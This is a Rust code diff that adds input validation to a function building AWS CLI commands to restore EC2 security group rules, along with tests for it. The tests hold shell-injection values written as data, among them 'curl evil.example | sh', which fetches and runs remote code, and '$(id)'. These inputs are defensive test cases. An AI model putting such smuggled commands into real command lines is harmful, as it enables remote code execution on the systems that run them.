@@ -222,8 +222,14 @@ enum Recheck {
 /// protocol (as EC2 wrote it), ports and source, so the same traffic. The
 /// source is written as the guard reads it (host bits cleared, a bare
 /// address as a /32); the rule's description and tags are not carried.
-/// `None` for a source EC2 would not take (a CIDR that does not parse).
+/// `None` for a source EC2 would not take (a CIDR that does not parse), and
+/// for a region or group id that is not a plain word (never put in a shell
+/// command as it came).
 pub fn restore_command(region: &str, group_id: &str, rule: &SgRule) -> Option<String> {
+    use crate::output::report::is_plain_word;
+    if !is_plain_word(region) || !is_plain_word(group_id) {
+        return None;
+    }
     let mut permission = serde_json::Map::new();
     permission.insert("IpProtocol".into(), rule.ip_protocol.clone().into());
     if !rule.protocol.is_all_traffic() {
@@ -995,6 +1001,24 @@ mod tests {
             None,
             "EC2 would not take it back"
         );
+        let ssh = rule("tcp", Some(22), Some(22), Source::cidr("0.0.0.0/0"));
+        for (region, group) in [
+            ("eu-west-1; curl evil.example | sh", "sg-1"),
+            ("eu-west-1", "sg-1 $(id)"),
+            ("eu-west-1", ""),
+        ] {
+            assert_eq!(
+                restore_command(region, group, &ssh),
+                None,
+                "{region:?} {group:?} is never put in a command"
+            );
+        }
+        // A quote inside the JSON stays inside the single quotes.
+        let quoted = Source::Group {
+            group_id: Some("sg-'x".into()),
+            user_id: None,
+        };
+        assert!(cmd(&rule("tcp", Some(22), Some(22), quoted)).contains(r#""GroupId":"sg-'\''x""#));
     }
     use crate::output::notify::Notification;
     use crate::ports::fakes::{MemoryGroups, MemoryNotifier};
